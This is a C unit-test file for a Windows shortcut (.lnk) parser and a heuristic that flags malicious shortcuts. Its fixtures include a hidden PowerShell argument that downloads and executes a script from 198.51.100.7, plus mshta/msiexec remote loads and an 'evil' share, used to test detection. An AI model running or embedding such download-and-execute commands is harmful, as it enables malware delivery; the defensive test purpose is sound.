/*
 * test_lnk - unit tests for lnk.c: the shell link parser and heur_lnk
 *
 * Built links: tiny .lnk buffers made by build() from a SPEC (header, ID list, LinkInfo,
 * StringData, environment block), checked field by field; every byte prefix of a valid
 * link (each copied to a buffer of exactly that size, so ASan sees any read past it);
 * hostile sizes and offsets. heur_lnk: LNK_* symbols and the command line handed on.
 *
 * heur_script and heur_registry are written elsewhere: this file defines weak stand-ins
 * (weak aliases of stub_script/stub_registry) that record their arguments, so the test
 * links alone. When it is linked with the real ones, the real ones win; the tests notice
 * (the address of heur_script is no longer the stub's) and skip only the assertions about
 * the recorded arguments.
 *
 * Corpus (skips cleanly when ../shared/corpus is absent; tests run from the repo root):
 * ../shared/corpus/lnk-lnkparse3 holds the samples of LnkParse3 decoded to .lnk and its
 * expected parse as JSON. For every sample with a JSON object, test_corpus compares our
 * fields with LnkParse3's, prints a table and the disagreements, and asserts that every
 * command_line_arguments agrees exactly and every other field on at least 90%.
 */
#include <setjmp.h> /* setjmp.h, stdarg.h and stddef.h must precede cmocka.h */
#include <stdarg.h>
#include <stddef.h>
#include <dirent.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include <cmocka.h>

#include "lib/buf.h"
#include "heur/heur.h"
#include "heur/registry.h"
#include "heur/script.h"
#include "model/hit.h"
#include "heur/lnk.h"
#include "lib/str.h"
#include "lib/xalloc.h"
#include "testutil.h"

#define CORPUS "../shared/corpus"
#define LNKDIR CORPUS "/lnk-lnkparse3"

/* ------------------------------------------------------------------ stand-ins */

static int script_calls, registry_calls;
static char script_lang[16];
static BUF *script_data, *registry_data;

/* stub_script - record heur_script's arguments */
static void stub_script(HEUR_CTX *c, const char *lang, const unsigned char *data, size_t n)
{
    (void)c;
    script_calls++;
    snprintf(script_lang, sizeof(script_lang), "%s", lang);
    buf_reset(script_data);
    buf_cat(script_data, data, n);
}

/* stub_registry - record heur_registry's arguments */
static void stub_registry(HEUR_CTX *c, const char *text, size_t n)
{
    (void)c;
    registry_calls++;
    buf_reset(registry_data);
    buf_cat(registry_data, text, n);
}

void heur_script(HEUR_CTX *c, const char *lang, const unsigned char *data, size_t n)
    __attribute__((weak, alias("stub_script")));
void heur_registry(HEUR_CTX *c, const char *text, size_t n)
    __attribute__((weak, alias("stub_registry")));

/* stubbed - the stand-ins are the ones linked in */
static bool stubbed(void)
{
    void (*volatile real)(HEUR_CTX *, const char *, const unsigned char *, size_t) = heur_script;
    return real == stub_script;
}

/* stub_reset - forget what the stand-ins recorded */
static void stub_reset(void)
{
    script_calls = registry_calls = 0;
    script_lang[0] = 0;
    if (script_data == NULL) {
        script_data = buf_new(256);
        registry_data = buf_new(256);
    }
    buf_reset(script_data);
    buf_reset(registry_data);
}

/* ------------------------------------------------------------------ building links */

enum {
    F_IDLIST = 0x1,
    F_LINKINFO = 0x2,
    F_NAME = 0x4,
    F_RELPATH = 0x8,
    F_WORKDIR = 0x10,
    F_ARGS = 0x20,
    F_ICON = 0x40,
    F_UNICODE = 0x80,
    F_FORCE_NO_LINKINFO = 0x100,
    F_EXPSTRING = 0x200
};

typedef struct SPEC {
    bool ansi;           /* StringData in the code page (IsUnicode clear) */
    uint32_t more_flags; /* e.g. F_FORCE_NO_LINKINFO */
    uint32_t show;
    int32_t icon_index;
    const char *idpath; /* "C:\dir\file": an ID list of This PC, a drive, file entries */
    bool short_only;    /* file entries without a BEEF0004 block (Unicode primary names) */
    const char *base;   /* LinkInfo LocalBasePath */
    const char *suffix; /* LinkInfo CommonPathSuffix */
    const char *net;    /* LinkInfo network share (instead of base) */
    const char *device;
    const char *name, *rel, *wdir, *args, *icon; /* StringData, as UTF-8 */
    const char *env;                             /* EnvironmentVariableDataBlock target */
    bool no_terminal;
} SPEC;

/* p16 - append a little-endian u16 */
static void p16(BUF *b, unsigned v)
{
    unsigned char x[2] = {(unsigned char)v, (unsigned char)(v >> 8)};
    buf_cat(b, x, 2);
}

/* p32 - append a little-endian u32 */
static void p32(BUF *b, uint32_t v)
{
    p16(b, v & 0xFFFF);
    p16(b, v >> 16);
}

/* set32 - overwrite a little-endian u32 at off */
static void set32(BUF *b, size_t off, uint32_t v)
{
    for (int i = 0; i < 4; i++)
        b->data[off + i] = (char)(v >> (8 * i));
}

/* zeros - append k zero bytes */
static void zeros(BUF *b, size_t k)
{
    while (k--)
        buf_putc(b, 0);
}

/* utf16 - append UTF-8 text as UTF-16LE (surrogate pairs past U+FFFF); count of units */
static size_t utf16(BUF *b, const char *s)
{
    size_t units = 0, n = strlen(s);
    for (size_t i = 0; i < n;) {
        unsigned cp;
        size_t k = utf8_seq((const unsigned char *)s + i, n - i, &cp);
        assert_true(k > 0);
        i += k;
        if (cp >= 0x10000) {
            p16(b, 0xD800 + ((cp - 0x10000) >> 10));
            cp = 0xDC00 + ((cp - 0x10000) & 0x3FF);
            units++;
        }
        p16(b, cp);
        units++;
    }
    return units;
}

/* sdata - one StringData field: count, then the characters */
static void sdata(BUF *b, const char *s, bool ansi)
{
    if (ansi) {
        p16(b, strlen(s));
        buf_puts(b, s);
        return;
    }
    BUF *t = buf_new(64);
    size_t units = utf16(t, s);
    p16(b, units);
    buf_cat(b, t->data, t->len);
    buf_free(t);
}

/* item - append one shell item: its size, then the body */
static void item(BUF *list, const BUF *body)
{
    p16(list, body->len + 2);
    buf_cat(list, body->data, body->len);
}

/* file_entry - a file entry item; with a long name, a version 9 BEEF0004 block */
static void file_entry(BUF *list, const char *name, bool short_only)
{
    BUF *it = buf_new(128);
    buf_putc(it, short_only ? 0x36 : 0x32); /* file; 0x04: Unicode primary name */
    zeros(it, 1 + 4 + 4);                   /* unknown, size, modification time */
    p16(it, 0x20);                          /* attributes */
    if (short_only) {
        utf16(it, name);
        p16(it, 0);
    } else {
        buf_puts(it, "SHORT~1.EXE");
        zeros(it, 1);
        size_t ext = it->len + 2; /* offset of the block in the item */
        BUF *blk = buf_new(128);
        p16(blk, 9); /* version (size patched below) */
        p32(blk, 0xBEEF0004);
        zeros(blk, 4 + 4 + 2 + 2 + 8 + 8 + 2 + 4 + 4); /* times .. unknowns: name at 46 */
        utf16(blk, name);
        p16(blk, 0);
        p16(blk, (unsigned)ext); /* first extension block offset */
        p16(it, blk->len + 2);
        buf_cat(it, blk->data, blk->len);
        buf_free(blk);
        p16(it, (unsigned)ext);
    }
    item(list, it);
    buf_free(it);
}

/* idlist - LinkTargetIDList for "C:\a\b": This PC, the drive, one file entry per component */
static void idlist(BUF *b, const char *path, bool short_only)
{
    static const unsigned char my_pc[18] = {0x1F, 0x50, 0xE0, 0x4F, 0xD0, 0x20, 0xEA, 0x3A, 0x69,
                                            0x10, 0xA2, 0xD8, 0x08, 0x00, 0x2B, 0x30, 0x30, 0x9D};
    BUF *list = buf_new(256), *it = buf_new(32);
    buf_cat(it, my_pc, sizeof(my_pc));
    item(list, it);
    buf_reset(it);
    buf_putc(it, 0x2F);
    buf_cat(it, path, 3); /* "C:\" */
    zeros(it, 19);
    item(list, it);
    char *copy = xstrdup(path + 3);
    for (char *save = NULL, *c = strtok_r(copy, "\\", &save); c; c = strtok_r(NULL, "\\", &save))
        file_entry(list, c, short_only);
    p16(list, 0);
    p16(b, list->len);
    buf_cat(b, list->data, list->len);
    free(copy);
    buf_free(it);
    buf_free(list);
}

/* linkinfo - LinkInfo with a local base path, or a network share, and a path suffix */
static void linkinfo(BUF *b, const SPEC *s)
{
    size_t start = b->len;
    const char *suffix = s->suffix ? s->suffix : "";
    p32(b, 0); /* size, patched */
    p32(b, 0x1C);
    p32(b, s->net ? 2 : 1);
    p32(b, s->net ? 0 : 0x1C);      /* VolumeIDOffset */
    p32(b, s->net ? 0 : 0x1C + 17); /* LocalBasePathOffset */
    p32(b, s->net ? 0x1C : 0);      /* CommonNetworkRelativeLinkOffset */
    p32(b, 0);                      /* CommonPathSuffixOffset, patched */
    if (s->net) {
        size_t dev = 0x14 + strlen(s->net) + 1;
        p32(b, (uint32_t)(dev + (s->device ? strlen(s->device) + 1 : 0)));
        p32(b, s->device ? 3 : 2);
        p32(b, 0x14);
        p32(b, s->device ? (uint32_t)dev : 0);
        p32(b, 0x20000);
        buf_puts(b, s->net);
        zeros(b, 1);
        if (s->device) {
            buf_puts(b, s->device);
            zeros(b, 1);
        }
    } else {
        p32(b, 17); /* VolumeID: size, drive type, serial, label offset, label "" */
        p32(b, 3);
        p32(b, 0x1234);
        p32(b, 0x10);
        zeros(b, 1);
        buf_puts(b, s->base);
        zeros(b, 1);
    }
    set32(b, start + 24, (uint32_t)(b->len - start));
    buf_puts(b, suffix);
    zeros(b, 1);
    set32(b, start, (uint32_t)(b->len - start));
}

/* env_block - EnvironmentVariableDataBlock: TargetAnsi[260], TargetUnicode[520] */
static void env_block(BUF *b, const char *target)
{
    size_t start = b->len;
    p32(b, 0x314);
    p32(b, 0xA0000001);
    buf_puts(b, target);
    zeros(b, 260 - strlen(target));
    utf16(b, target);
    zeros(b, start + 0x314 - b->len);
}

/* build - the .lnk a SPEC describes (malloc'd, exactly *n bytes) */
static unsigned char *build(const SPEC *s, size_t *n)
{
    static const unsigned char clsid[16] = {0x01, 0x14, 0x02, 0, 0, 0, 0, 0,
                                            0xC0, 0,    0,    0, 0, 0, 0, 0x46};
    const char *strs[5] = {s->name, s->rel, s->wdir, s->args, s->icon};
    uint32_t flags = (s->ansi ? 0 : F_UNICODE) | s->more_flags | (s->idpath ? F_IDLIST : 0) |
                     (s->base || s->net ? F_LINKINFO : 0) | (s->env ? F_EXPSTRING : 0);
    for (int i = 0; i < 5; i++)
        flags |= strs[i] ? (uint32_t)F_NAME << i : 0;
    BUF *b = buf_new(1024);
    p32(b, 0x4C);
    buf_cat(b, clsid, 16);
    p32(b, flags);
    p32(b, 0x20);
    zeros(b, 24 + 4); /* three FILETIMEs, file size */
    p32(b, (uint32_t)s->icon_index);
    p32(b, s->show ? s->show : 1);
    zeros(b, 2 + 2 + 4 + 4);
    if (s->idpath)
        idlist(b, s->idpath, s->short_only);
    if (s->base || s->net)
        linkinfo(b, s);
    for (int i = 0; i < 5; i++)
        if (strs[i])
            sdata(b, strs[i], s->ansi);
    if (s->env)
        env_block(b, s->env);
    if (!s->no_terminal)
        p32(b, 0);
    char *r = buf_steal(b, n);
    buf_free(b);
    return (unsigned char *)r;
}

/* exact - a copy in a buffer of exactly n bytes (ASan then catches any read past it) */
static unsigned char *exact(const void *p, size_t n)
{
    unsigned char *r = xmalloc(n ? n : 1);
    if (n)
        memcpy(r, p, n);
    return r;
}

/* parse_spec - build a SPEC and parse it */
static LNK *parse_spec(const SPEC *s)
{
    size_t n;
    unsigned char *p = build(s, &n);
    unsigned char *q = exact(p, n);
    LNK *l = lnk_parse(q, n);
    free(q);
    free(p);
    return l;
}

/* seq - equality where NULL equals only NULL; prints both on a difference */
static bool seq(const char *what, const char *got, const char *want)
{
    if ((got == NULL && want == NULL) || (got && want && strcmp(got, want) == 0))
        return true;
    printf("  %s: got '%s', want '%s'\n", what, got ? got : "(null)", want ? want : "(null)");
    return false;
}

/* ------------------------------------------------------------------ parser tests */

/* test_minimal - a header and a terminal block: a valid link with nothing in it */
static void test_minimal(void **state)
{
    (void)state;
    SPEC s = {0};
    LNK *l = parse_spec(&s);
    assert_non_null(l);
    assert_false(l->truncated);
    assert_null(l->target);
    assert_null(l->arguments);
    assert_null(l->env_target);
    assert_int_equal(l->show_command, 1);
    assert_int_equal(l->flags, F_UNICODE);
    lnk_free(l);
    assert_null(lnk_free(NULL));
}

static const SPEC full = {
    .show = 7,
    .icon_index = 1,
    .idpath = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    .base = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    .name = "Invoice \xe2\x82\xac 2024",
    .rel = "..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    .wdir = "%USERPROFILE%",
    .args = "-w hidden -nop -c \"iex (iwr http://198.51.100.7/a.ps1)\"",
    .icon = "C:\\Users\\Public\\invoice.pdf",
    .env = "%windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
};

/* test_fields - every field of a link that has all the structures */
static void test_fields(void **state)
{
    (void)state;
    LNK *l = parse_spec(&full);
    assert_non_null(l);
    int fails =
        !seq("target", l->target, full.base) + !seq("arguments", l->arguments, full.args) +
        !seq("working_dir", l->working_dir, full.wdir) +
        !seq("relative_path", l->relative_path, full.rel) + !seq("name", l->name, full.name) +
        !seq("icon_location", l->icon_location, full.icon) +
        !seq("env_target", l->env_target, full.env) + !seq("network_share", l->network_share, NULL);
    assert_int_equal(fails, 0);
    assert_false(l->truncated);
    assert_int_equal(l->show_command, 7);
    lnk_free(l);
}

/* test_idlist_target - without LinkInfo the target is joined from the ID list */
static void test_idlist_target(void **state)
{
    (void)state;
    SPEC s = {.idpath = "C:\\Windows\\System32\\cmd.exe", .args = "/c calc"};
    LNK *l = parse_spec(&s); /* long names from the BEEF0004 blocks, not SHORT~1.EXE */
    assert_true(seq("target", l->target, s.idpath));
    assert_false(l->truncated);
    lnk_free(l);
    s.short_only = true; /* Unicode primary names, no extension block */
    s.idpath = "D:\\Temp\\\xd0\x94\xd0\xb8\xd0\xbc\xd0\xb0\\run.bat";
    l = parse_spec(&s);
    assert_true(seq("target (short)", l->target, s.idpath));
    lnk_free(l);
    s.base = "C:\\docs\\report.pdf"; /* LinkInfo wins for `target` */
    l = parse_spec(&s);
    assert_true(seq("target (LinkInfo)", l->target, s.base));
    lnk_free(l);
    s.more_flags = F_FORCE_NO_LINKINFO; /* ... unless Windows is told to ignore it */
    l = parse_spec(&s);
    assert_true(seq("target (ForceNoLinkInfo)", l->target, s.idpath));
    assert_true(seq("arguments (ForceNoLinkInfo)", l->arguments, "/c calc"));
    lnk_free(l);
}

/* test_network - a LinkInfo with a network share: \\server\share + suffix */
static void test_network(void **state)
{
    (void)state;
    SPEC s = {.net = "\\\\10.0.0.150\\pub", .device = "Z:", .suffix = "x\\run.exe"};
    LNK *l = parse_spec(&s);
    assert_true(seq("target", l->target, "\\\\10.0.0.150\\pub\\x\\run.exe"));
    assert_true(seq("share", l->network_share, s.net));
    lnk_free(l);
    s.suffix = NULL;
    s.net = "\\\\srv\\s$";
    s.device = NULL;
    l = parse_spec(&s);
    assert_true(seq("target (no suffix)", l->target, "\\\\srv\\s$"));
    lnk_free(l);
}

/* test_text - code-page text (Latin-1, cp1252 in 0x80-0x9F); UTF-16 pairs, lone surrogates */
static void test_text(void **state)
{
    (void)state;
    SPEC s = {.ansi = true, .args = "caf\xe9 \x90\x8e\x80", .base = "C:\\Users\\\xcf\xee\\a.exe"};
    LNK *l = parse_spec(&s);
    assert_true(seq("ansi args", l->arguments, "caf\xc3\xa9 \xc2\x90\xc5\xbd\xe2\x82\xac"));
    assert_true(seq("ansi base", l->target, "C:\\Users\\\xc3\x8f\xc3\xae\\a.exe"));
    lnk_free(l);
    SPEC u = {.args = "\xf0\x9f\x98\x80 ok"}; /* U+1F600 as a surrogate pair */
    l = parse_spec(&u);
    assert_true(seq("pair", l->arguments, u.args));
    lnk_free(l);
    /* lone high surrogate, lone low surrogate, NUL ends the string */
    static const unsigned char units[] = {0x41, 0, 0x00, 0xD8, 0x42, 0, 0x00, 0xDC, 0, 0, 0x43, 0};
    SPEC h = {.args = "xxxxxx"};
    size_t n;
    unsigned char *p = build(&h, &n);
    memcpy(p + 0x4C + 2, units, sizeof(units));
    l = lnk_parse(p, n);
    assert_true(seq("lone", l->arguments,
                    "A\xef\xbf\xbd"
                    "B\xef\xbf\xbd"));
    lnk_free(l);
    free(p);
}

/* test_max_path - NAME, RELATIVE_PATH, WORKING_DIR counts above 260 read 260 characters */
static void test_max_path(void **state)
{
    (void)state;
    BUF *pad = buf_new(600);
    buf_puts(pad, "C:\\Windows");
    while (pad->len < 260)
        buf_putc(pad, ' ');
    SPEC s = {.wdir = pad->data, .args = "/c calc", .icon = "shell32.dll"};
    size_t n;
    unsigned char *p = build(&s, &n);
    p[0x4C] = 0x9D; /* WORKING_DIR count 0x069D: it would swallow the arguments */
    p[0x4C + 1] = 0x06;
    LNK *l = lnk_parse(p, n);
    assert_false(l->truncated);
    assert_true(seq("padded wdir", l->working_dir, pad->data));
    assert_true(seq("args after it", l->arguments, "/c calc"));
    assert_true(seq("icon after it", l->icon_location, "shell32.dll"));
    lnk_free(l);
    free(p);
    SPEC a = {.ansi = true, .args = pad->data}; /* arguments are not capped */
    buf_puts(pad, "tail");
    a.args = pad->data;
    l = parse_spec(&a);
    assert_true(seq("long args", l->arguments, pad->data));
    lnk_free(l);
    buf_free(pad);
}

/*
 * check_prefixes - every prefix of p parses without a fault, and every strict prefix is
 * truncated (a whole file can be too: padded_cli_arguments has no terminal block)
 */
static void check_prefixes(const unsigned char *p, size_t n, const char *what)
{
    HITS *hits = hits_new();
    HEUR_CTX c = {.hits = hits, .location = "1"};
    int bad = 0;
    for (size_t k = 0; k <= n; k++) {
        unsigned char *q = exact(p, k);
        LNK *l = lnk_parse(q, k);
        bool want_null = k < 4;
        if ((l == NULL) != want_null || (l && k < n && !l->truncated)) {
            if (bad++ < 5)
                printf("  %s prefix %zu of %zu: %s\n", what, k, n,
                       l ? (l->truncated ? "truncated" : "not truncated") : "NULL");
        }
        heur_lnk(&c, q, k);
        lnk_free(l);
        free(q);
    }
    hits_free(hits);
    assert_int_equal(bad, 0);
}

/* test_prefixes - a link cut at every byte */
static void test_prefixes(void **state)
{
    (void)state;
    stub_reset();
    size_t n;
    unsigned char *p = build(&full, &n);
    check_prefixes(p, n, "full");
    LNK *l = lnk_parse(p, n);
    assert_false(l->truncated);
    lnk_free(l);
    free(p);
    SPEC s = {.ansi = true, .net = "\\\\s\\x", .device = "Z:", .suffix = "a", .args = "b"};
    p = build(&s, &n);
    check_prefixes(p, n, "network");
    free(p);
}

/* hostile - parse a built link after patching a u32 or u16 at off; returns the LNK */
static LNK *hostile(const SPEC *s, size_t off, uint32_t v, int width, size_t cut)
{
    size_t n;
    unsigned char *p = build(s, &n);
    for (int i = 0; i < width; i++)
        p[off + i] = (unsigned char)(v >> (8 * i));
    if (cut && cut < n)
        n = cut;
    unsigned char *q = exact(p, n);
    LNK *l = lnk_parse(q, n);
    HITS *hits = hits_new();
    HEUR_CTX c = {.hits = hits, .location = "1"};
    heur_lnk(&c, q, n);
    hits_free(hits);
    free(q);
    free(p);
    return l;
}

/* test_hostile_sizes - sizes and offsets that point past their structure or the file */
static void test_hostile_sizes(void **state)
{
    (void)state;
    stub_reset();
    SPEC a = {.args = "AB"}; /* count 0xFFFF, 2 characters there: what is there, truncated */
    LNK *l = hostile(&a, 0x4C, 0xFFFF, 2, 0);
    assert_true(l->truncated);
    assert_true(strncmp(l->arguments, "AB", 2) == 0);
    lnk_free(l);
    SPEC li = {.base = "C:\\x.exe", .args = "z"}; /* LinkInfo size past n */
    l = hostile(&li, 0x4C, 0xFFFFFFF0u, 4, 0);
    assert_true(l->truncated);
    assert_true(seq("cut LinkInfo target", l->target, "C:\\x.exe"));
    assert_null(l->arguments);
    lnk_free(l);
    l = hostile(&li, 0x4C, 8, 4, 0); /* LinkInfo smaller than its own header */
    assert_true(l->truncated);
    assert_null(l->target);
    lnk_free(l);
    l = hostile(&li, 0x4C + 16, 0xFFFFFFFFu, 4, 0); /* LocalBasePathOffset far away */
    assert_false(l->truncated);
    assert_true(seq("offset past LinkInfo", l->target, NULL));
    assert_true(seq("args after bad offset", l->arguments, "z"));
    lnk_free(l);
    l = hostile(&li, 0x4C + 24, 0x7FFFFFFF, 4, 0); /* CommonPathSuffixOffset far away */
    assert_true(seq("suffix past LinkInfo", l->target, "C:\\x.exe"));
    lnk_free(l);
    SPEC id = {.idpath = "C:\\a\\b.exe", .args = "q"};
    l = hostile(&id, 0x4C, 0xFFFF, 2, 0); /* IDList size past n */
    assert_true(l->truncated);
    assert_true(seq("cut IDList target", l->target, "C:\\a\\b.exe"));
    assert_null(l->arguments);
    lnk_free(l);
    l = hostile(&id, 0x4C + 2, 0xFFFF, 2, 0); /* first item past the list */
    assert_true(l->truncated);
    assert_null(l->target);
    assert_true(seq("args after bad item", l->arguments, "q"));
    lnk_free(l);
    l = hostile(&id, 0x4C + 2, 1, 2, 0); /* an item of size 1 */
    assert_true(l->truncated);
    lnk_free(l);
}

/* test_hostile_blocks - ExtraData and shell items that lie about their sizes */
static void test_hostile_blocks(void **state)
{
    (void)state;
    stub_reset();
    SPEC e = {.env = "%COMSPEC%"};
    size_t n;
    unsigned char *p = build(&e, &n);
    free(p);
    LNK *l = hostile(&e, 0, 0x4C, 4, 0x4C + 8 + 5); /* the block cut in TargetAnsi */
    assert_true(l->truncated);
    assert_true(seq("cut env", l->env_target, "%COMS"));
    lnk_free(l);
    l = hostile(&e, 0x4C, 0xFFFFFFFFu, 4, 0); /* block size 4 GB */
    assert_true(l->truncated);
    assert_true(seq("huge env", l->env_target, "%COMSPEC%"));
    lnk_free(l);
    l = hostile(&e, 0, 0x4C, 4, n - 4); /* no terminal block */
    assert_true(l->truncated);
    lnk_free(l);
    SPEC id = {.idpath = "C:\\longname.exe"};
    p = build(&id, &n);
    free(p);
    size_t blk = 0x4C + 2 + 20 + 25 + 26; /* the BEEF0004 block's size field */
    l = hostile(&id, blk, 0xFFFF, 2, 0);  /* past its item */
    assert_false(l->truncated);
    assert_true(seq("huge ext block", l->target, "C:\\longname.exe"));
    lnk_free(l);
    l = hostile(&id, blk, 12, 2, 0); /* ends before the name: the short name */
    assert_true(seq("tiny ext block", l->target, "C:\\SHORT~1.EXE"));
    lnk_free(l);
    l = hostile(&id, blk + 2, 0xFFFF, 2, 0); /* unknown version */
    assert_true(seq("ext version", l->target, "C:\\longname.exe"));
    lnk_free(l);
    l = hostile(&id, 0x4C + 2, 5, 2, 0); /* a root item too short for its GUID */
    assert_true(l->truncated);           /* the next item starts mid-GUID and lies */
    lnk_free(l);
}

/* test_hostile_misc - not a link; all flags set on an empty body; a 64 KB string cap */
static void test_hostile_misc(void **state)
{
    (void)state;
    static const unsigned char junk[] = "MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0";
    assert_null(lnk_parse(NULL, 0));
    assert_null(lnk_parse(junk, sizeof(junk)));
    unsigned char head[0x4C] = {0x4C};
    assert_null(lnk_parse(head, sizeof(head))); /* wrong CLSID */
    SPEC s = {0};
    LNK *l = hostile(&s, 0x14, 0xFFFFFFFFu, 4, 0x4C);
    assert_true(l->truncated);
    lnk_free(l);
    /* 0xFFFF UTF-16 units of U+20AC: 196605 bytes of UTF-8, cut at 64 KB */
    BUF *big = buf_new(200000);
    for (int i = 0; i < 0xFFFF; i++)
        buf_puts(big, "\xe2\x82\xac");
    SPEC g = {.args = big->data};
    l = parse_spec(&g);
    assert_false(l->truncated);
    size_t len = strlen(l->arguments);
    assert_true(len <= 65536 && len >= 65530);
    assert_true(utf8_valid(l->arguments, len));
    lnk_free(l);
    buf_free(big);
}

/* ------------------------------------------------------------------ heur_lnk tests */

typedef struct GOT {
    HITS *hits;
    HEUR_CTX c;
} GOT;

/* run_heur - heur_lnk over a built link */
static void run_heur(GOT *g, const SPEC *s)
{
    size_t n;
    unsigned char *p = build(s, &n);
    stub_reset();
    g->hits = hits_new();
    g->c = (HEUR_CTX){.hits = g->hits, .location = "2/a.zip>doc.lnk"};
    heur_lnk(&g->c, p, n);
    free(p);
}

/* symbols - the LNK_* symbols found, space-separated, in a fixed order */
static void symbols(const HITS *h, char *out, size_t size)
{
    static const char *const order[] = {"LNK_FILE", "LNK_SCRIPT_HOST_TARGET", "LNK_HIDDEN_WINDOW",
                                        "LNK_LONG_ARGUMENTS", "LNK_ICON_MISMATCH"};
    out[0] = 0;
    for (size_t i = 0; i < sizeof(order) / sizeof(order[0]); i++)
        if (hits_has(h, order[i]))
            snprintf(out + strlen(out), size - strlen(out), "%s%s", out[0] ? " " : "", order[i]);
}

/* test_heur_powershell - hidden powershell with long arguments and a PDF icon */
static void test_heur_powershell(void **state)
{
    (void)state;
    BUF *args = buf_new(512);
    buf_puts(args, "-w hidden -nop -ep bypass -c \"");
    for (int i = 0; i < 30; i++)
        buf_puts(args, "$a+='AAAA';");
    buf_puts(args, "\"");
    SPEC s = full;
    s.args = args->data;
    GOT g;
    run_heur(&g, &s);
    char got[256];
    symbols(g.hits, got, sizeof(got));
    assert_true(seq("symbols", got,
                    "LNK_FILE LNK_SCRIPT_HOST_TARGET LNK_HIDDEN_WINDOW LNK_LONG_ARGUMENTS "
                    "LNK_ICON_MISMATCH"));
    for (size_t i = 0; i < g.hits->n; i++) {
        assert_string_equal(g.hits->v[i].location, "2/a.zip>doc.lnk");
        printf("  %s: %s\n", g.hits->v[i].symbol, g.hits->v[i].detail);
    }
    if (stubbed()) {
        char *want = xasprintf("%s %s", s.env, s.args); /* the environment target first */
        assert_int_equal(script_calls, 1);
        assert_int_equal(registry_calls, 1);
        assert_string_equal(script_lang, "lnk");
        assert_true(seq("script text", script_data->data, want));
        assert_true(seq("registry text", registry_data->data, want));
        free(want);
    }
    hits_free(g.hits);
    buf_free(args);
}

/* test_heur_benign - notepad opening a text file: only LNK_FILE */
static void test_heur_benign(void **state)
{
    (void)state;
    SPEC s = {.base = "C:\\Program Files\\Notepad++\\notepad++.exe",
              .args = "C:\\notes\\todo.txt",
              .icon = "C:\\Program Files\\Notepad++\\notepad++.exe",
              .show = 7};
    GOT g;
    run_heur(&g, &s);
    char got[256];
    symbols(g.hits, got, sizeof(got));
    assert_true(seq("symbols", got, "LNK_FILE"));
    if (stubbed())
        assert_true(seq("script text", script_data->data,
                        "\"C:\\Program Files\\Notepad++\\notepad++.exe\" C:\\notes\\todo.txt"));
    hits_free(g.hits);
}

/* test_heur_cases - which targets are script hosts, and what the other symbols need */
static void test_heur_cases(void **state)
{
    (void)state;
    static const struct {
        SPEC s;
        const char *want;
    } cases[] = {
        {{.env = "%COMSPEC%", .args = "/c x"}, "LNK_FILE LNK_SCRIPT_HOST_TARGET"},
        {{.base = "C:\\Windows\\System32\\CMD.EXE.", .show = 7},
         "LNK_FILE LNK_SCRIPT_HOST_TARGET LNK_HIDDEN_WINDOW"},
        {{.rel = ".\\mshta", .args = "http://x/a.hta"}, "LNK_FILE LNK_SCRIPT_HOST_TARGET"},
        {{.base = "C:\\Windows\\System32\\msiexec.exe", .args = "/q /i HTTP://x/a.msi"},
         "LNK_FILE LNK_SCRIPT_HOST_TARGET"},
        {{.base = "C:\\Windows\\System32\\msiexec.exe", .args = "/i C:\\a.msi"}, "LNK_FILE"},
        {{.base = "C:\\docs\\report.pdf", .idpath = "C:\\Windows\\System32\\rundll32.exe"},
         "LNK_FILE LNK_SCRIPT_HOST_TARGET"},
        {{.net = "\\\\evil\\s",
          .suffix = "forfiles.exe",
          .icon = "%SystemRoot%\\shell32.dll",
          .icon_index = 3},
         "LNK_FILE LNK_SCRIPT_HOST_TARGET LNK_ICON_MISMATCH"},
        {{.base = "C:\\Windows\\System32\\cmd.exe", .icon = "imageres.dll", .icon_index = 15},
         "LNK_FILE LNK_SCRIPT_HOST_TARGET"},
        {{.base = "C:\\Windows\\System32\\wscript.exe",
          .icon = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
          .icon_index = 11},
         "LNK_FILE LNK_SCRIPT_HOST_TARGET LNK_ICON_MISMATCH"},
        {{.base = "C:\\tools\\app.exe", .show = 7, .icon = "x.pdf"}, "LNK_FILE"},
        {{.base = "C:\\tools\\app.exe",
          .args = "a                                                 b"},
         "LNK_FILE LNK_LONG_ARGUMENTS"},
        {{.base = "C:\\tools\\cmd.exe.bak"}, "LNK_FILE"},
    };
    int fails = 0;
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        GOT g;
        run_heur(&g, &cases[i].s);
        char got[256], what[32];
        symbols(g.hits, got, sizeof(got));
        snprintf(what, sizeof(what), "case %zu", i);
        fails += !seq(what, got, cases[i].want);
        hits_free(g.hits);
    }
    assert_int_equal(fails, 0);
}

/* test_heur_not_link - a buffer that is not a shortcut: no hits, nothing handed on */
static void test_heur_not_link(void **state)
{
    (void)state;
    stub_reset();
    HITS *h = hits_new();
    HEUR_CTX c = {.hits = h, .location = "1"};
    heur_lnk(&c, (const unsigned char *)"not a shortcut", 14);
    heur_lnk(&c, NULL, 0);
    assert_int_equal(h->n, 0);
    assert_int_equal(script_calls + registry_calls, 0);
    hits_free(h);
}

/* ------------------------------------------------------------------ JSON (test side) */

/* js_ws - skip JSON white space */
static const char *js_ws(const char *s)
{
    while (*s == ' ' || *s == '\t' || *s == '\r' || *s == '\n')
        s++;
    return s;
}

/* js_hex4 - four hex digits, or -1 */
static long js_hex4(const char *s)
{
    long v = 0;
    for (int i = 0; i < 4; i++) {
        int c = s[i], d = c >= '0' && c <= '9'   ? c - '0'
                          : c >= 'a' && c <= 'f' ? c - 'a' + 10
                          : c >= 'A' && c <= 'F' ? c - 'A' + 10
                                                 : -1;
        if (d < 0)
            return -1;
        v = v * 16 + d;
    }
    return v;
}

/* js_utf8 - append a code point as UTF-8 */
static void js_utf8(BUF *b, unsigned long cp)
{
    if (cp < 0x80) {
        buf_putc(b, (int)cp);
    } else if (cp < 0x800) {
        buf_putc(b, (int)(0xC0 | cp >> 6));
        buf_putc(b, (int)(0x80 | (cp & 0x3F)));
    } else if (cp < 0x10000) {
        buf_putc(b, (int)(0xE0 | cp >> 12));
        buf_putc(b, (int)(0x80 | (cp >> 6 & 0x3F)));
        buf_putc(b, (int)(0x80 | (cp & 0x3F)));
    } else {
        buf_putc(b, (int)(0xF0 | cp >> 18));
        buf_putc(b, (int)(0x80 | (cp >> 12 & 0x3F)));
